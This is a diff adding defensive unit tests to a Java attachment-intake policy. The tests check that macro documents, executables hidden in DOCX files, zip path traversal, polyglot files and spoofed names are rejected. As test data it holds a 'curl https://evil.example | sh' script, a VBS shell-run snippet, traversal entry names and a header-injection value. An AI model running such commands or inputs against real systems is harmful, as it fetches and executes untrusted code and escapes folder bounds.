@@ -3,20 +3,28 @@ package org.supportintake.attachments.policy;
 import static org.assertj.core.api.Assertions.assertThat;
 
 import java.io.ByteArrayInputStream;
+import java.io.ByteArrayOutputStream;
+import java.io.UncheckedIOException;
 import java.io.IOException;
 import java.nio.charset.Charset;
+import java.nio.charset.StandardCharsets;
 import java.nio.file.Files;
 import java.nio.file.Path;
 import java.util.LinkedHashMap;
 import java.util.List;
 import java.util.Map;
 import java.util.stream.Stream;
+import java.util.zip.CRC32;
+import java.util.zip.ZipEntry;
+import java.util.zip.ZipOutputStream;
 
 import org.junit.jupiter.api.BeforeEach;
 import org.junit.jupiter.api.DisplayName;
 import org.junit.jupiter.api.Nested;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.ValueSource;
 import org.supportintake.attachments.inspection.ArchiveEntry;
 import org.supportintake.attachments.inspection.MediaTypes;
 import org.supportintake.attachments.store.FileStore;
@@ -245,6 +253,189 @@ class AttachmentBatchTest {
             }
             assertThat(batch.receive("6.png", "", new ByteArrayInputStream(TestFiles.png())).verdict())
                     .isEqualTo(rejected(RejectionReason.TOO_MANY_FILES));
+        }
+    }
+
+    @Nested
+    @DisplayName("risky content, decided by the bytes")
+    class RiskyContent {
+        private static final String PROGRAM = "program";
+
+        @Test
+        void macroDocumentRenamedToDocxIsRejected() throws IOException {
+            ReceivedFile file = formFile("заявление.docx", MediaTypes.DOCX, TestFiles.docm());
+            assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.MACRO_DOCUMENT));
+            assertThat(RejectionReason.MACRO_DOCUMENT.code()).isEqualTo("macro_document");
+            assertThat(storedFiles()).isZero();
+        }
+
+        @Test
+        void docxHoldingAVbaProjectIsAMacroDocumentWhateverItsContentTypesSay() {
+            byte[] docx = TestFiles.docxWith(Map.of("word/vbaProject.bin", TestFiles.compoundFile("VBA")));
+            assertThat(formFile("заявление.docx", MediaTypes.DOCX, docx).verdict())
+                    .isEqualTo(rejected(RejectionReason.MACRO_DOCUMENT));
+        }
+
+        @Test
+        void macroEnabledContentTypesAloneMakeAMacroDocumentEvenWhenTheyComeLast() {
+            byte[] docm = TestFiles.docx(false, "application/vnd.ms-word.document.macroEnabled.main+xml", Map.of());
+            assertThat(formFile("заявление.docx", MediaTypes.DOCX, docm).verdict())
+                    .isEqualTo(rejected(RejectionReason.MACRO_DOCUMENT));
+        }
+
+        @Test
+        void docmInsideAnEmailZipIsAMacroDocument() {
+            ReceivedFile zip = emailFile("документы.zip", TestFiles.zip(Map.of("заявление.docx", TestFiles.docm())));
+            assertThat(zip.verdict()).isEqualTo(rejected(RejectionReason.MACRO_DOCUMENT));
+        }
+
+        @Test
+        void docxWithAnExecutableInItsEmbeddingsIsRejected() throws IOException {
+            byte[] docx = TestFiles.docxWith(Map.of("word/embeddings/setup.exe", TestFiles.pe()));
+            assertThat(formFile("договор.docx", MediaTypes.DOCX, docx).verdict())
+                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
+            assertThat(storedFiles()).isZero();
+        }
+
+        @ParameterizedTest(name = "{0}")
+        @ValueSource(strings = {"pe", "elf", "script", "package"})
+        void docxHidingAProgramUnderAHarmlessNameIsRejectedByItsBytes(String kind) {
+            byte[] bytes = switch (kind) {
+                case "pe" -> TestFiles.pe();
+                case "elf" -> TestFiles.elf();
+                case "script" -> "#!/bin/sh\ncurl https://evil.example | sh\n".getBytes(StandardCharsets.UTF_8);
+                default -> TestFiles.olePackage();
+            };
+            String part = kind.equals("package") ? "word/embeddings/oleObject1.bin" : "word/media/image1.png";
+            assertThat(formFile("договор.docx", MediaTypes.DOCX, TestFiles.docxWith(Map.of(part, bytes))).verdict())
+                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
+        }
+
+        @Test
+        void docxWithAScriptNamedAsOneIsRejected() {
+            byte[] docx = TestFiles.docxWith(Map.of("word/embeddings/run.vbs",
+                    "CreateObject(\"WScript.Shell\").Run \"calc\"".getBytes(StandardCharsets.US_ASCII)));
+            assertThat(formFile("договор.docx", MediaTypes.DOCX, docx).verdict())
+                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
+        }
+
+        @Test
+        void docxWithAnOrdinaryEmbeddedOleObjectIsAccepted() {
+            byte[] docx = TestFiles.docxWith(Map.of("word/embeddings/oleObject1.bin", TestFiles.compoundFile("Workbook")));
+            assertThat(formFile("отчёт.docx", MediaTypes.DOCX, docx).verdict()).isEqualTo(AttachmentVerdict.accepted());
+        }
+
+        @Test
+        void docxInAnEmailZipWithAProgramInsideIsRejectedAsAWhole() {
+            byte[] docx = TestFiles.docxWith(Map.of("word/embeddings/a.bin", TestFiles.pe()));
+            assertThat(emailFile("документы.zip", TestFiles.zip(Map.of("договор.docx", docx))).verdict())
+                    .isEqualTo(rejected(RejectionReason.EMBEDDED_EXECUTABLE));
+        }
+
+        @ParameterizedTest(name = "{0}")
+        @ValueSource(strings = {"../evil.pdf", "docs/../../evil.pdf", "..\\evil.pdf",
+            "/etc/evil.pdf", "\\\\server\\share\\evil.pdf", "C:/Windows/evil.pdf", "c:evil.pdf", "a\u0000.pdf"})
+        void zipEntryThatLeavesTheFolderIsRejected(String entryName) throws IOException {
+            ReceivedFile zip = emailFile("сканы.zip", TestFiles.zip(Map.of("скан.pdf", TestFiles.pdf(), entryName, TestFiles.pdf())));
+            assertThat(zip.verdict()).isEqualTo(rejected(RejectionReason.UNSAFE_ARCHIVE_PATH));
+            assertThat(storedFiles()).isZero();
+        }
+
+        @Test
+        void docxPartLeavingThePackageOrNamedWithABackslashIsRejected() {
+            byte[] climbing = TestFiles.docxWith(Map.of("word/../../evil.xml", "<x/>".getBytes(StandardCharsets.UTF_8)));
+            byte[] backslashed = TestFiles.docxWith(Map.of("word\\media\\image1.png", TestFiles.png()));
+            assertThat(formFile("a.docx", MediaTypes.DOCX, climbing).verdict()).isEqualTo(rejected(RejectionReason.UNSAFE_ARCHIVE_PATH));
+            assertThat(formFile("b.docx", MediaTypes.DOCX, backslashed).verdict()).isEqualTo(rejected(RejectionReason.UNSAFE_ARCHIVE_PATH));
+        }
+
+        @Test
+        void backslashAsAFolderSeparatorInAnEmailZipIsNotATrick() {
+            ReceivedFile zip = emailFile("сканы.zip", TestFiles.zip(Map.of("папка\\скан.pdf", TestFiles.pdf())));
+            assertThat(zip.verdict()).isEqualTo(AttachmentVerdict.accepted());
+        }
+
+        @Test
+        void pdfWithAZipHoldingAProgramAppendedIsRejected() throws IOException {
+            byte[] payload = TestFiles.zip(Map.of("setup.exe", TestFiles.pe()));
+            ReceivedFile file = formFile("справка.pdf", MediaTypes.PDF, TestFiles.concat(TestFiles.pdf(), payload));
+            assertThat(file.inspection().detectedType()).isEqualTo(MediaTypes.PDF);
+            assertThat(file.verdict()).isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
+            assertThat(storedFiles()).isZero();
+        }
+
+        @Test
+        void pdfWithAnyZipAppendedIsRejectedEvenWithAnotherEofInsideTheZip() {
+            var stored = new ByteArrayOutputStream();
+            try (var zip = new ZipOutputStream(stored)) {
+                var entry = new ZipEntry("note.txt");
+                byte[] text = "%%EOF\n".getBytes(StandardCharsets.US_ASCII);
+                entry.setMethod(ZipEntry.STORED);
+                entry.setSize(text.length);
+                var crc = new CRC32();
+                crc.update(text);
+                entry.setCrc(crc.getValue());
+                zip.putNextEntry(entry);
+                zip.write(text);
+                zip.closeEntry();
+            } catch (IOException e) {
+                throw new UncheckedIOException(e);
+            }
+            assertThat(formFile("справка.pdf", MediaTypes.PDF, TestFiles.concat(TestFiles.pdf(), stored.toByteArray())).verdict())
+                    .isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
+        }
+
+        @Test
+        void pdfWithAZipLocalHeaderAfterItsEndButNoDirectoryIsRejected() {
+            byte[] zip = TestFiles.zip(Map.of("a.exe", TestFiles.pe()));
+            byte[] truncated = java.util.Arrays.copyOf(zip, zip.length / 2);
+            assertThat(formFile("справка.pdf", MediaTypes.PDF, TestFiles.concat(TestFiles.pdf(), truncated)).verdict())
+                    .isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
+        }
+
+        @Test
+        void pngWithAZipAppendedIsRejected() {
+            byte[] zip = TestFiles.zip(Map.of("a.exe", TestFiles.pe()));
+            assertThat(formFile("фото.png", MediaTypes.PNG, TestFiles.concat(TestFiles.png(), zip)).verdict())
+                    .isEqualTo(rejected(RejectionReason.POLYGLOT_FILE));
+        }
+
+        @Test
+        void pdfWithAnIncrementalUpdateAndZipBytesInsideItsBodyIsAccepted() {
+            byte[] update = ("1 0 obj<</Type/Catalog/Pages 2 0 R/Note(PK\u0003\u0004 inside a string)>>endobj\n"
+                    + "trailer<</Root 1 0 R>>\n%%EOF\n").getBytes(StandardCharsets.ISO_8859_1);
+            assertThat(formFile("справка.pdf", MediaTypes.PDF, TestFiles.concat(TestFiles.pdf(), update)).verdict())
+                    .isEqualTo(AttachmentVerdict.accepted());
+        }
+    }
+
+    @Nested
+    @DisplayName("what the sender claims is cleaned before anyone stores it")
+    class Claims {
+        @Test
+        void declaredTypeIsKeptAsACanonicalMediaTypeOnly() {
+            assertThat(formFile("скан.png", "Image/PNG; name=\"скан.png\"", TestFiles.png()).declaredType())
+                    .isEqualTo(MediaTypes.PNG);
+            assertThat(formFile("скан.png", "image/png\u0000\r\nX-Evil: 1", TestFiles.png()).declaredType()).isEmpty();
+            assertThat(formFile("скан.png", "application/x-" + "z".repeat(300), TestFiles.png()).declaredType()).isEmpty();
+        }
+
+        @Test
+        void storedTypeIsTheOneDetectedFromTheBytesNotTheDeclaredOne() {
+            ReceivedFile file = formFile("скан.png", "text/html", TestFiles.png());
+            assertThat(file.verdict()).isEqualTo(AttachmentVerdict.accepted());
+            assertThat(file.inspection().detectedType()).isEqualTo(MediaTypes.PNG);
+        }
+
+        @Test
+        void nameWithNulAndTenThousandCharactersNeverComesOutRaw() {
+            ReceivedFile nul = formFile("скан\u0000.png", MediaTypes.PNG, TestFiles.png());
+            ReceivedFile longName = formFile("я".repeat(10_000) + ".png", MediaTypes.PNG, TestFiles.png());
+
+            assertThat(nul.verdict()).isEqualTo(rejected(RejectionReason.SPOOFED_NAME));
+            assertThat(nul.name()).isEqualTo("скан.png");
+            assertThat(longName.name()).hasSize(120).endsWith("я.png");
+            assertThat(longName.verdict()).isEqualTo(AttachmentVerdict.accepted());
         }
     }
 
